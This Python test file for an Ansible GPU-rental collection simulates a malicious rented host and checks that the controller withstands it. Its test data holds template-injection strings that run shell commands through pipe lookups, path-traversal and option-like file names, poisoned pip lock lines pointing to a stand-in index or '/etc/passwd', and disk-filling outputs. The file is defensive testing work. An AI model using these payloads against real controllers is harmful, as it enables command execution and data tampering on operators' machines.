# Copyright: inferops.gpu contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the owner of a rented host may try: every answer of the host is his."""

from __future__ import annotations

import json
from typing import Any

import yaml

from ansible_collections.inferops.gpu.plugins.module_utils.market.access.host_keys import derive
from ansible_collections.inferops.gpu.plugins.module_utils.market.mark import Mark
from tests.attacks.registry import attack, each
from tests.attacks.stage import NAME, SCOPE, SECRETS, Stage, key_pair, on_market, plays
from tests.tools.tree import REPOSITORY
from tests.unit.market.ssh_host import SshHost, as_paramiko

HOST_MODULES = yaml.safe_load((REPOSITORY / "meta" / "runtime.yml").read_text())["action_groups"][
    "host"
]
#: Options without which an action of ours would refuse the task, or go on asking.
OPTIONS: dict[str, dict[str, Any]] = {
    "evidence": {"dest": "evidence"},
    "mend_attempt": {"name": "main"},
    "model_server": {"wait": False},
}
#: What the module of evidence says of a server that does well.
RUNNING = {"phase": "running", "reason": None, "symptoms": None}
SEEN = "account goes to <{{ inferops_api_url | default('usual') }}>"
SHOW = {"ansible.builtin.debug": {"msg": SEEN}}
LOOK = {"inferops.gpu.gpu_info": {}, "register": "told"}


def evil(stage: Stage) -> dict[str, Any]:
    """Variables that a host would like to set."""
    return {"inferops_api_url": stage.stranger, "stack_lock_file": str(stage.precious)}


def shown_harm(stage: Stage, text: str) -> None:
    """Was a variable of the host's taken?"""
    stage.harmed(f"<{stage.stranger}>" in text, "the host set a variable of the controller")


@each(
    "host-sets-variables",
    {
        "by-facts": ("ansible_facts", False),
        "by-facts-to-be-kept": ("ansible_facts", True),
        "by-statistics": ("ansible_stats", False),
        "by-adding-a-host": ("add_host", False),
    },
)
def sets_variables(stage: Stage, how: tuple[str, bool]) -> None:
    key, kept = how
    told: Any = evil(stage)
    if key == "ansible_stats":
        told = {"data": told, "per_host": False, "aggregate": True}
    if key == "add_host":
        told = {"host_name": "localhost", "host_vars": told, "groups": ["gpu_hosts"]}
    stage.host.answers({"changed": False, key: told, "_ansible_facts_cacheable": kept})
    tasks = [{f"inferops.gpu.{name}": OPTIONS.get(name, {})} for name in HOST_MODULES]
    cache = {"ANSIBLE_CACHE_PLUGIN": "jsonfile", "ANSIBLE_CACHE_PLUGIN_CONNECTION": str(stage.work)}
    environment = {"ANSIBLE_SHOW_CUSTOM_STATS": "true", **(cache if kept else {})}
    what = [*plays(*tasks, SHOW), *plays(SHOW, hosts="all,localhost")]
    played = stage.play(what, environment=environment)
    if kept:
        played = stage.play(plays(SHOW), environment=environment)
    stage.tried(played.status == 0 and stage.host.times_asked >= len(HOST_MODULES))
    shown_harm(stage, played.text)
    stage.harmed("CUSTOM STATS" in stage.output, "the host left statistics for later jobs")


@attack
def host_sets_variables_by_modules_of_ansible_s_own(stage: Stage) -> None:
    stage.host.answers({"changed": False, "ansible_facts": evil(stage)})
    own = ({"ansible.builtin.stat": {"path": "/"}}, {"ansible.builtin.setup": {}})
    played = stage.play(plays(*own, SHOW))
    stage.tried(played.status == 0 and stage.host.seen)
    shown_harm(stage, played.text)


@attack
def host_sets_variables_where_facts_are_injected(stage: Stage) -> None:
    """By Ansible's very defaults nothing of ours may run."""
    stage.host.answers({"changed": False, "ansible_facts": evil(stage)})
    refused = stage.play(plays(LOOK, SHOW), environment={"ANSIBLE_INJECT_FACT_VARS": "true"})
    stage.tried("inject_facts_as_vars = false" in refused.text)
    stage.harmed(stage.host.seen, "the host was asked")


@attack
def host_answers_a_job_that_runs_on(stage: Stage) -> None:
    answer = {"ansible_job_id": "j1", "started": 1, "finished": 1, "ansible_facts": evil(stage)}
    stage.host.answers(answer)
    job = {"inferops.gpu.stack_image": {}, "async": 60, "poll": 1}
    played = stage.play(plays(job, SHOW))
    stage.tried(played.status == 0 and stage.host.seen)
    shown_harm(stage, played.text)


@each("host-sends-a-template", {"in-a-result": False, "in-a-failure": True})
def sends_a_template(stage: Stage, failed: bool) -> None:
    template = f"{{{{ lookup('ansible.builtin.pipe', 'touch {stage.owned}') }}}}"
    stage.host.answers({"failed": failed, "msg": template, "phase": template, "path": template})
    reads = {
        "ansible.builtin.debug": {"msg": "{{ told.phase }} {{ told.msg | inferops.gpu.redact }}"}
    }
    keeps = {"ansible.builtin.set_fact": {"kept": "{{ told.phase }}", "{{ told.path }}": 1}}
    uses = {"ansible.builtin.debug": {"msg": "{{ kept }} {{ kept | trim }} {{ told }}"}}
    look = {**LOOK, "ignore_errors": True}
    keeps["ignore_errors"] = True
    played = stage.play(plays(look, reads, keeps, uses))
    stage.tried("lookup(" in played.text and stage.host.seen)


@each(
    "host-names-a-file-of-evidence",
    {
        "above": "../../precious",
        "by-its-path": "{precious}",
        "as-an-option": "-rf",
        "hidden": ".bashrc",
        "with-a-line-break": "a\nb",
    },
)
def names_a_file(stage: Stage, name: str) -> None:
    name = name.format(precious=stage.precious)
    parts = {name: "of the attacker", "state.json": "{}"}
    stage.host.answers({"changed": False, "parts": parts, "server": RUNNING})
    collects = {"inferops.gpu.evidence": {"dest": str(stage.work / "evidence" / "one")}}
    played = stage.play(plays(collects))
    there = sorted(file.name for file in (stage.work / "evidence").rglob("*") if file.is_file())
    stage.tried(played.status == 0 and "state.json" in there)
    stage.harmed(there != ["state.json"], f"the host wrote {there}")


@each(
    "host-answers",
    {
        "with-json-as-deep-as-it-likes": "[" * 200_000,
        "with-no-json": "Segmentation fault",
        "with-another-type": "[1, 2, 3]",
        "with-numbers-too-large": json.dumps({"changed": False, "free_gib": 10**400}),
        "with-more-values-than-any": f'{{"changed": false, "a": [{"[]," * 5 * 2**20}1]}}',
        "that-it-is-unreachable": json.dumps({"unreachable": True, "msg": "nothing is rescued"}),
    },
)
def answers_badly(stage: Stage, text: str) -> None:
    stage.host.prints(text)
    played = stage.play(plays({**LOOK, "ignore_errors": True}, SHOW))
    stage.tried(stage.host.seen)
    stage.harmed(SEEN[:16] not in played.text, "the host ended the play")


@attack
def host_names_files_of_evidence_without_number(stage: Stage) -> None:
    answer = stage.folder / "answer"
    parts = {f"{number}.log": "" for number in range(100_000)}
    answer.write_text(json.dumps({"changed": False, "parts": parts, "server": RUNNING}))
    stage.host.runs(f"cat {answer}")
    dest = stage.work / "evidence"
    stage.play(plays({"inferops.gpu.evidence": {"dest": str(dest)}}))
    made = len(list(dest.iterdir()))
    stage.tried(made)
    stage.harmed(made > 1000, f"the host made {made} files")


@attack
def host_has_another_s_key(stage: Stage) -> None:
    """Who sits at the rental's address gets neither a login nor the second key's private half."""
    stranger = derive("of a stranger", Mark(SCOPE, NAME, "0", 0, 0), 1)
    with SshHost(as_paramiko(stranger.private)) as impostor:
        at = {"ssh_host": "127.0.0.1", "ssh_port": impostor.endpoint.port, "ports": {}}
        simulator = stage.market({"kind": "row_is", "fields": at, "times": 999})
        mark = stage.rented(simulator)
        wait = {
            "inferops.gpu.rental_ready": {
                "id": "{{ found.rentals[0].id }}",
                "nonce": mark.nonce,
                "ssh_private_key_file": str(key_pair(stage)),
                "known_hosts_file": str(stage.controller / "known_hosts"),
                "timeout_seconds": 60,
            },
        }
        find = {"inferops.gpu.rental_info": {"name": mark.name}, "register": "found"}
        played = stage.play(on_market(stage, simulator, find, wait), simulator=simulator)
        stage.tried(played.status != 0 and "host key" in played.text)
        stage.harmed(impostor.commands, "the impostor was told something")


@each("host-asks-for-a-password", {"to-log-in": False, "for-sudo": True})
def asks_for_a_password(stage: Stage, lets_in: bool) -> None:
    """Of an operator who has some for hosts of his own, in the inventory and by -k and -K."""
    password, file = "password-of-the-operator", stage.folder / "password"
    file.write_text(password)
    key = derive("of the host", Mark(SCOPE, NAME, "0", 0, 0), 1)
    with SshHost(as_paramiko(key.private)) as host:
        host.asks, host.lets_in = True, lets_in
        port = host.endpoint.port
        rental = {
            **{"provider": "vastai", "id": "7", "ssh_user": "u", "can_be_reached": True},
            "ssh": [{"host": "127.0.0.1", "port": port}],
            "known_hosts": [f"[127.0.0.1]:{port} {key.public}"],
        }
        way = {"name": "inferops.gpu.connect", "tasks_from": "connection"}
        played = stage.play(
            plays(
                {"ansible.builtin.import_role": way},
                {"ansible.builtin.raw": "true", "become": True},
            ),
            *("--connection-password-file", str(file), "--become-password-file", str(file)),
            hosts={NAME: {"inferops_rental": rental}},
            inferops_ssh_private_key_file=str(key_pair(stage)),
            ansible_password=password,
            ansible_become_password=password,
            ansible_ssh_retries=0,
        )
        stage.tried(
            "sudo " in str(host.commands) if lets_in else "Permission denied" in played.text
        )
        stage.harmed(host.told, f"the host was told {len(host.told)} passwords")


@attack
def host_reads_what_it_is_sent(stage: Stage) -> None:
    """Environment and arguments of all modules that run on the host."""
    tasks = [
        {f"inferops.gpu.{name}": OPTIONS.get(name, {}), "ignore_errors": True}
        for name in HOST_MODULES
    ]
    played = stage.play(plays(*tasks), inferops_server_api_key=SECRETS["server key"])
    stage.tried(played.status == 0 and stage.host.times_asked >= len(HOST_MODULES))
    stage.harmed(SECRETS["server key"] in stage.host.seen, "a host saw a key for nothing")


HASH = "--hash=sha256:" + "0" * 64
LOCK_LINES = {
    "a-file": f"evil @ file:///tmp/evil.whl {HASH}",
    "an-index": f"--index-url http://203.0.113.9/simple\nevil==1.0 {HASH}",
    "another-list": "-r /etc/passwd",
    "an-editable-folder": "-e /tmp/evil",
    "no-hash": "evil==1.0",
    "a-template": "{{ lookup('ansible.builtin.pipe', 'touch owned') }}",
}


@each("host-returns-a-lock-with", LOCK_LINES)
def returns_a_lock(stage: Stage, line: str) -> None:
    """It would be given to the next host."""
    text = f"{line}\nwanted==1.0 {HASH}\n"
    stage.host.answers({"changed": True, "lock": text, "packages": {"wanted": "1.0"}})
    kept = stage.work / "lock.txt"
    resolve = {"inferops.gpu.stack_lock": {"requirements": ["wanted==1.0"]}, "register": "told"}
    keep = {"inferops.gpu.controller_file": {"path": str(kept), "content": "{{ told.lock }}"}}
    played = stage.play(plays(resolve, keep))
    stage.tried(stage.host.times_asked and "lock" in played.text)
    stage.harmed(kept.exists(), "what the host calls its lock was kept")


@attack
def host_answers_without_end(stage: Stage) -> None:
    # Bounded, lest it fills the disk of who tries it.
    stage.host.runs("head -c 3000000000 /dev/zero | tr '\\0' x")
    played = stage.play(plays({**LOOK, "ignore_errors": True}, SHOW))
    stage.tried(stage.host.times_asked and SEEN[:16] in played.text)


@attack
def host_answers_with_a_text_as_a_number(stage: Stage) -> None:
    """Where it is multiplied, as bytes in a MiB, it is a thousand times as long and more."""
    memory = {"memory_total_mib": "9" * 2048, "memory_used_mib": 0}
    stage.host.answers(
        {
            "changed": False,
            "gpu": {"gpus": [{"index": 0, "uuid": "GPU-0", **memory}]},
            "host": {"init_system": "none", "is_root": True},
            "server": {"processes": 0, "memory_before_mib": {}},
            "model": {"config": None, "weights_bytes": None},
        }
    )
    config = {
        "model_type": "llama",
        **{"hidden_size": 64, "num_hidden_layers": 2, "num_attention_heads": 2},
        **{"intermediate_size": 128, "vocab_size": 100, "max_position_embeddings": 128},
    }
    fit = {"inferops.gpu.model_fit": {"model": "a/b", "model_config": config}}
    played = stage.play(plays({**fit, "ignore_errors": True}, SHOW))
    stage.tried(stage.host.times_asked and SEEN[:16] in played.text and "Fit: " in played.text)


@attack
def host_answers_with_evidence_without_end(stage: Stage) -> None:
    parts = "".join(f'"{number}.log": "{"x" * 2**20}", ' for number in range(60))
    answer = stage.folder / "answer"
    answer.write_text(
        f'{{"parts": {{{parts}"state.json": "{{}}"}}, "server": {json.dumps(RUNNING)}}}'
    )
    stage.host.runs(f"cat {answer}")
    dest = stage.work / "evidence"
    collects = {"inferops.gpu.evidence": {"dest": str(dest)}, "ignore_errors": True}
    stage.play(plays(collects, SHOW))
    stage.tried(stage.host.times_asked)
    mebibytes = sum(file.stat().st_size for file in dest.rglob("*") if file.is_file()) >> 20
    stage.harmed(mebibytes > 50, f"the host filled {mebibytes} MiB of the controller's disk")


@attack
def host_says_what_it_costs(stage: Stage) -> None:
    """A bill of a millionth that is shown beside each task."""
    price = {"id": "7", "price_usd_per_hour": 1e-6, "started_at": 1.0, "mark": {"created_at": 1.0}}
    stage.host.answers({"changed": False, "rental": {**price, "gpu_name": "free"}})
    waits = {"inferops.gpu.gpu_info": {}}
    sleeps = {"ansible.builtin.wait_for": {"timeout": 12}, "delegate_to": "localhost"}
    # The checkout's own screen tells of phases alone, and silences progress.
    shown = {
        "ANSIBLE_CALLBACKS_ENABLED": "inferops.gpu.progress",
        "ANSIBLE_STDOUT_CALLBACK": "ansible.builtin.default",
    }
    played = stage.play(plays(waits, sleeps), environment=shown)
    stage.tried("wait_for, " in played.text)
    stage.harmed("so far" in played.text, "the host's own price was shown")
